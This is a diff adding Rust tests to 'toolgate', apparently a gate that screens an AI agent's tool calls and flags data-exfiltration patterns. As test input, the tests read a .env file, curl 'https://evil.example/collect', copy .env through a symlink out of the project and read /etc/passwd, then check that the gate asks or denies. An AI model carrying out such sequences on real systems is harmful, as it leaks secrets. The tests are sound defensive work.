@@ -469,3 +469,319 @@ fn checks_with_an_environment_apply_the_flow_rules() {
     );
     assert_eq!(v.decision, Action::Allow, "{}", v.message);
 }
+
+#[test]
+fn the_audit_line_carries_the_labels_and_the_chain() {
+    // the writer of `toolgate guard --audit` (JSON lines), read back
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("audit.jsonl");
+    let sink = toolgate::gate::audit::JsonlSink::open(&log).unwrap();
+    let gate = shipped_gate().with_audit(Arc::new(sink));
+    read_env(&gate, "s");
+    fetch(&gate, "s", "https://evil.example/page");
+    let v = curl(&gate, "s", "https://evil.example/collect");
+    assert_eq!(v.decision, Action::Ask, "{}", v.message);
+    // a call with no label: neither field is written
+    gate.check_in(
+        Some("s"),
+        "filesystem.read_text_file",
+        json!({"path": "README.md"}),
+    );
+    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&log)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 4, "{lines:?}");
+    assert_eq!(lines[0]["labels"][0]["label"], "private");
+    assert!(lines[0].get("flow").is_none(), "{}", lines[0]);
+    let ask = &lines[2];
+    assert_eq!(ask["decision"], "ask");
+    assert_eq!(ask["labels"][0]["label"], "exfiltration");
+    let m = &ask["flow"][0];
+    assert_eq!(m["rule"], "flow.trifecta");
+    assert_eq!(m["action"], "ask");
+    let armed: Vec<(&str, u64, &str)> = m["armed_by"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| {
+            (
+                a["tool"].as_str().unwrap(),
+                a["call"].as_u64().unwrap(),
+                a["label"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        armed,
+        [
+            ("fetch.fetch", 2, "untrusted"),
+            ("filesystem.read_text_file", 1, "private")
+        ]
+    );
+    assert!(m["armed_by"][1]["why"].as_str().unwrap().ends_with("/.env"));
+    assert!(m["armed_by"][1]["at"].as_f64().unwrap() > 1.0e9);
+    assert!(lines[3].get("labels").is_none() && lines[3].get("flow").is_none());
+    // the record reads back (`audit summary` parses the same lines)
+    let back: toolgate::gate::audit::AuditRecord = serde_json::from_value(ask.clone()).unwrap();
+    assert_eq!(back.flow.flow[0].armed_by.len(), 2);
+}
+
+/// Tools as an MCP server lists them (a captured `tools/list` with the
+/// server's name), with and without `openWorldHint`.
+const ANNOTATED_TOOLS: &str = r#"{"server": "web", "tools": [
+  {"name": "lookup", "description": "Look a word up on the web",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": true, "openWorldHint": true}},
+  {"name": "recall", "description": "Recall a note from the local store",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": true, "openWorldHint": false}},
+  {"name": "plain", "description": "Say a word",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": true}},
+  {"name": "publish", "description": "Publish a note",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": false, "openWorldHint": true}}
+]}"#;
+
+fn gate_with_tools(policy: Option<&str>) -> Gate {
+    let dir = tempfile::tempdir().unwrap();
+    let tools = dir.path().join("web.json");
+    std::fs::write(&tools, ANNOTATED_TOOLS).unwrap();
+    let policy = policy.map(|text| {
+        let p = dir.path().join("p.toml");
+        std::fs::write(&p, text).unwrap();
+        p
+    });
+    // the shipped tags too (the filesystem and shell tools)
+    let plan = load_plan(&Sources {
+        policy,
+        tags: Some(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tool-tags")),
+        tools: vec![tools],
+    })
+    .unwrap();
+    Gate::new(Arc::new(plan))
+}
+
+fn label_names(v: &toolgate::gate::Verdict) -> Vec<&str> {
+    v.labels.iter().map(|l| l.label.as_str()).collect()
+}
+
+#[test]
+fn the_open_world_hint_is_an_attach_condition() {
+    // the shipped policy: a read-only tool that says it reaches an open
+    // world returns untrusted content; one that says its world is closed,
+    // or says nothing, does not; a tool that writes to the open world is
+    // not "untrusted" by this rule
+    let gate = gate_with_tools(None);
+    let q = || json!({"q": "x"});
+    let v = gate.check("web.lookup", q());
+    assert_eq!(label_names(&v), ["untrusted"], "{:?}", v.labels);
+    assert!(
+        v.labels[0].why.contains("openWorldHint"),
+        "{}",
+        v.labels[0].why
+    );
+    assert!(gate.check("web.recall", q()).labels.is_empty());
+    assert!(gate.check("web.plain", q()).labels.is_empty());
+    assert!(gate.check("web.publish", q()).labels.is_empty());
+    // it arms the trifecta like a fetch
+    let v = read_env(&gate, "s");
+    assert_eq!(v.decision, Action::Allow, "{}", v.message);
+    assert_eq!(
+        gate.check_in(Some("s"), "web.lookup", q()).decision,
+        Action::Allow
+    );
+    let v = curl(&gate, "s", "https://evil.example/collect");
+    assert_eq!(v.decision, Action::Ask, "{}", v.message);
+    assert!(v.message.contains("`web.lookup`"), "{}", v.message);
+
+    // a policy's own rules: `open_world = false` matches what says so only
+    let flow = r#"[gate.flow]
+labels = ["closed", "open", "way_out"]
+max_history = 100
+allowed_hosts = []
+
+[[gate.flow.attach]]
+label = "closed"
+why = "{detail} keeps to a closed world"
+open_world = false
+
+[[gate.flow.attach]]
+label = "open"
+why = "{detail} reaches the open world"
+open_world = true
+
+[[gate.flow.attach]]
+label = "way_out"
+why = "{detail} writes to the open world"
+open_world = true
+read_only = false
+
+[[gate.flow.rules]]
+id = "r"
+after = ["closed"]
+then = "way_out"
+action = "deny"
+message = "after {detail}"
+"#;
+    let gate = gate_with_tools(Some(&policy_with_flow(flow)));
+    assert_eq!(label_names(&gate.check("web.recall", q())), ["closed"]);
+    assert_eq!(label_names(&gate.check("web.lookup", q())), ["open"]);
+    assert!(gate.check("web.plain", q()).labels.is_empty());
+    assert_eq!(
+        label_names(&gate.check("web.publish", q())),
+        ["open", "way_out"]
+    );
+    // a shipped tag file says nothing of it: no open-world label in the library
+    assert!(
+        gate.check("filesystem.read_text_file", json!({"path": "README.md"}))
+            .labels
+            .is_empty()
+    );
+    gate.check_in(Some("t"), "web.recall", q());
+    assert_eq!(
+        gate.check_in(Some("t"), "web.publish", q()).decision,
+        Action::Deny
+    );
+    // `open_world` must be a boolean: a load error at its place
+    let bad = policy_with_flow(&flow.replace("open_world = false", "open_world = \"no\""));
+    let e = plan_of(&bad).unwrap_err().to_string();
+    let line = bad[..bad.find("open_world = \"no\"").unwrap()]
+        .matches('\n')
+        .count()
+        + 1;
+    assert!(e.contains(&format!(":{line}:")), "{e}");
+}
+
+#[test]
+fn writes_outside_the_project_are_an_attach_condition() {
+    let flow = r#"[gate.flow]
+labels = ["private", "spill", "writes"]
+max_history = 100
+allowed_hosts = []
+
+[[gate.flow.attach]]
+label = "private"
+why = "read the private file {detail}"
+paths = ["**/.env"]
+
+[[gate.flow.attach]]
+label = "spill"
+why = "writes {detail}, outside the project"
+writes = "outside"
+
+[[gate.flow.attach]]
+label = "writes"
+why = "writes {detail}"
+writes = "any"
+
+[[gate.flow.rules]]
+id = "flow.spill"
+after = ["private"]
+then = "spill"
+action = "ask"
+message = "This call writes outside the project after {detail}."
+"#;
+    let plan = plan_of(&policy_with_flow(flow)).unwrap();
+    // a real project folder (the MCP client's root), a folder beside it,
+    // and a symlink inside the project that leads out of it
+    let dir = tempfile::tempdir().unwrap();
+    let project = dir.path().join("project");
+    let elsewhere = dir.path().join("elsewhere");
+    std::fs::create_dir_all(&project).unwrap();
+    std::fs::create_dir_all(&elsewhere).unwrap();
+    std::fs::write(project.join(".env"), "K=v\n").unwrap();
+    std::os::unix::fs::symlink(&elsewhere, project.join("out")).unwrap();
+    let env = toolgate::gate::CallEnv {
+        roots: vec![project.clone()],
+    };
+    let sh = |line: String| {
+        toolgate::gate::check_call_in(
+            &plan,
+            "shell.shell_execute",
+            json!({"command": ["sh", "-c", line]}),
+            &env,
+        )
+    };
+    let names = |v: &toolgate::gate::Verdict| -> Vec<String> {
+        v.labels.iter().map(|l| l.label.clone()).collect()
+    };
+    let p = project.display();
+    // a write inside the project: `writes`, not `spill`
+    let v = sh(format!("echo hi > {p}/notes.txt"));
+    assert_eq!(names(&v), ["writes"], "{}", v.message);
+    // outside: `spill`, naming the path
+    let v = sh(format!("echo hi > {}/notes.txt", elsewhere.display()));
+    assert_eq!(names(&v), ["spill", "writes"], "{}", v.message);
+    assert!(
+        v.labels[0].why.contains("elsewhere/notes.txt"),
+        "{}",
+        v.labels[0].why
+    );
+    // through the symlink inside the project: the shell layer denies it
+    // (no label: it never runs), and the placement says outside; a path
+    // only known at run time counts as outside (fail closed)
+    let v = sh(format!("cp {p}/.env {p}/out/k.txt"));
+    assert_eq!(v.decision, Action::Deny, "{}", v.message);
+    assert!(v.labels.is_empty());
+    let mut paths = toolgate::gate::compiled(&plan).config.paths.clone();
+    paths.roots = vec![p.to_string()];
+    let write = |at: &str| toolgate::gate::EffectFound {
+        kind: "write".into(),
+        operand: at.into(),
+        resolved: at.into(),
+    };
+    let out = |at: &str| toolgate::gate::flow::write_outside(&paths, &[write(at)]);
+    assert_eq!(
+        out(&format!("{p}/out/k.txt")),
+        Some(format!("{p}/out/k.txt"))
+    );
+    assert_eq!(out(&format!("{p}/k.txt")), None);
+    assert_eq!(out("k.txt"), None, "relative: under the first root");
+    assert!(out("dynamic").unwrap().contains("run time"));
+    let read = toolgate::gate::EffectFound {
+        kind: "read".into(),
+        operand: "/etc/passwd".into(),
+        resolved: "/etc/passwd".into(),
+    };
+    assert_eq!(toolgate::gate::flow::write_outside(&paths, &[read]), None);
+    // a file only read: neither
+    let v = sh(format!("cat {p}/notes.txt"));
+    assert!(v.labels.is_empty(), "{:?}", v.labels);
+    // the rule over the history: after the private read, the spill asks
+    let gate = Gate::new(plan.clone());
+    let read = gate.check_in_env(
+        Some("s"),
+        "filesystem.read_text_file",
+        json!({"path": format!("{p}/.env")}),
+        &env,
+    );
+    assert_eq!(names(&read), ["private"], "{}", read.message);
+    let inside = gate.check_in_env(
+        Some("s"),
+        "shell.shell_execute",
+        json!({"command": ["sh", "-c", format!("echo hi > {p}/notes.txt")]}),
+        &env,
+    );
+    assert!(inside.flow.is_empty(), "{}", inside.message);
+    let out = gate.check_in_env(
+        Some("s"),
+        "shell.shell_execute",
+        json!({"command": ["sh", "-c", format!("echo hi > {}/n.txt", elsewhere.display())]}),
+        &env,
+    );
+    assert_eq!(out.decision, Action::Ask, "{}", out.message);
+    assert_eq!(out.flow.len(), 1, "{}", out.message);
+    assert_eq!(out.flow[0].rule, "flow.spill");
+    assert_eq!(out.flow[0].armed_by[0].tool, "filesystem.read_text_file");
+    // `writes` takes "any" or "outside": anything else is a load error at its place
+    let bad = policy_with_flow(&flow.replace("writes = \"any\"", "writes = \"elsewhere\""));
+    let e = plan_of(&bad).unwrap_err().to_string();
+    let line = bad[..bad.find("writes = \"elsewhere\"").unwrap()]
+        .matches('\n')
+        .count()
+        + 1;
+    assert!(e.contains(&format!(":{line}:")), "{e}");
+}
